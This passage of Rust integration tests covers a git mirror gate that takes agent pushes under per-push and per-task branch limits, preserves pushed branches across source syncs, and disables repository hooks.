    let _ = stalled.join();
    if f.tip(&mirror, "refs/heads/victim").is_none() {
        assert!(
            f.mirrors
                .backups(&f.name)
                .iter()
                .any(|b| b.reference == "refs/heads/victim")
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refresh_keeps_pushed_branches_and_names_the_sources_it_could_not_take() {
    let f = Fixture::new().await;
    // The user's git prunes on every fetch.
    std::fs::write(
        f.dir.path().join("home/.gitconfig"),
        "[fetch]\n\tprune = true\n\tpruneTags = true\n",
    )
    .unwrap();
    let mirror = f.mirrors.repo_dir(&f.name);
    let token = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
    let pushed = tokio::task::block_in_place(|| {
        let work = clone_as(&f, &token, "work");
        let tip = commit_in(&f, &work, "fix.txt");
        f.git(
            Some(&work),
            &["push", "--quiet", "origin", "HEAD:agent/fix"],
        );
        tip
    });
    // The source moves main on, and makes a branch whose name the agent's is in the way of.
    let seed = f.dir.path().join("seed");
    let remote = f.remote().to_string_lossy().into_owned();
    let moved = commit_in(&f, &seed, "news.txt");
    f.git(
        Some(&seed),
        &["push", "--quiet", &remote, "main", "main:agent"],
    );
    let synced = f.mirrors.sync(&f.name, &remote).await.unwrap();
    assert_eq!(synced.blocked, ["agent"]);
    assert_eq!(
        f.tip(&mirror, "refs/heads/main").as_deref(),
        Some(moved.as_str())
    );
    assert_eq!(
        f.tip(&mirror, "refs/heads/agent/fix").as_deref(),
        Some(pushed.as_str()),
        "the agent's branch survives the user's fetch.prune"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_source_with_thousands_of_branches_still_takes_pushes() {
    let f = Fixture::new().await;
    let remote = f.remote();
    let main = f.tip(&remote, "refs/heads/main").unwrap();
    let updates: String = (0..3000)
        .map(|n| {
            format!(
                "create refs/heads/feature/a-rather-long-branch-name-of-the-team-{n:05} {main}\n"
            )
        })
        .collect();
    update_refs(&remote, &updates);
    f.mirrors
        .sync(&f.name, &remote.to_string_lossy())
        .await
        .unwrap();
    let token = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
    let mirror = f.mirrors.repo_dir(&f.name);
    let tip = tokio::task::block_in_place(|| {
        let work = clone_as(&f, &token, "work");
        let tip = commit_in(&f, &work, "fix.txt");
        f.git(
            Some(&work),
            &["push", "--quiet", "origin", "HEAD:agent/fix"],
        );
        let moved = f.git_output(
            Some(&work),
            &[
                "push",
                "origin",
                "HEAD:feature/a-rather-long-branch-name-of-the-team-02999",
            ],
        );
        assert!(!moved.status.success(), "a source branch moved");
        tip
    });
    assert_eq!(
        f.tip(&mirror, "refs/heads/agent/fix").as_deref(),
        Some(tip.as_str())
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_repository_without_a_remote_starts_empty_and_takes_the_first_push() {
    let f = Fixture::new().await;
    let name = "scratch-0000abcd";
    let dir = f.mirrors.create_remoteless(name).await.unwrap();
    assert_eq!(dir, f.mirrors.repo_dir(name));
    // Made once: a second call keeps what was pushed.
    let token = f.tokens.mint(name, "terok-executor-a").unwrap();
    let url = f.url(&token, name);
    let tip = tokio::task::block_in_place(|| {
        let work = f.dir.path().join("scratch");
        f.git(None, &["clone", "--quiet", &url, &work.to_string_lossy()]);
        f.git(Some(&work), &["checkout", "--quiet", "-b", "main"]);
        let tip = commit_in(&f, &work, "first.txt");
        f.git(Some(&work), &["push", "--quiet", "origin", "main"]);
        tip
    });
    f.mirrors.create_remoteless(name).await.unwrap();
    assert_eq!(
        f.tip(&dir, "refs/heads/main").as_deref(),
        Some(tip.as_str())
    );
    let listed = f.mirrors.list().await.unwrap();
    let scratch = listed.iter().find(|m| m.name == name).unwrap();
    assert_eq!(scratch.source, "");
    assert_eq!(scratch.pushes.len(), 1, "{:?}", scratch.pushes);
    // Its hooks never run either: the mirror's configuration is the gate's.
    let hooks = f.git(Some(&dir), &["config", "--get", "core.hooksPath"]);
    assert_eq!(hooks.trim(), "/dev/null");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_push_and_a_task_make_a_bounded_number_of_branches() {
    let f = Fixture::new().await;
    let mirror = f.mirrors.repo_dir(&f.name);
    let main = f.tip(&mirror, "refs/heads/main").unwrap();
    let token = f.tokens.mint(&f.name, "terok-executor-a").unwrap();
    // One push of more refs than allowed is refused whole, before git runs.
    let zero = "0".repeat(40);
    let many: String = (0..=terok_gate::MAX_REFS_PER_PUSH)
        .map(|n| pkt(&format!("{zero} {main} refs/heads/flood/{n}\n")))
        .collect();
    let body = format!("{many}0000");
    let (status, answer) = tokio::task::block_in_place(|| {
        f.http(&format!(
            "POST /{}.git/git-receive-pack HTTP/1.1\r\nHost: gate\r\nAuthorization: Basic {}\r\n\
             Content-Type: application/x-git-receive-pack-request\r\nContent-Length: {}\r\n\
             Connection: close\r\n\r\n{body}",
            f.name,
            basic(&token),
            body.len()
        ))
    });
    assert_eq!(status, 413, "{answer}");
    assert!(
        f.git(Some(&mirror), &["for-each-ref", "refs/heads/flood/"])
            .is_empty()
    );
    // A task may have pushed so many branches, no more; deleting one makes room.
    tokio::task::block_in_place(|| {
        let work = clone_as(&f, &token, "work");
        let updates: String = (0..terok_gate::MAX_BRANCHES_PER_TASK)
            .map(|n| format!("create refs/heads/t/{n} {main}\n"))
            .collect();
        update_refs(&work, &updates);
        f.git(
            Some(&work),
            &["push", "--quiet", "origin", "refs/heads/t/*:refs/heads/t/*"],
        );
        let more = f.git_output(Some(&work), &["push", "origin", "HEAD:refs/heads/one-more"]);
        assert!(!more.status.success(), "a task pushed past its limit");
        f.git(
            Some(&work),
            &["push", "--quiet", "origin", ":refs/heads/t/0"],
        );
        f.git(
            Some(&work),
            &["push", "--quiet", "origin", "HEAD:refs/heads/one-more"],
        );
    });
    assert_eq!(
        f.tip(&mirror, "refs/heads/one-more").as_deref(),
        Some(main.as_str())
    );
}
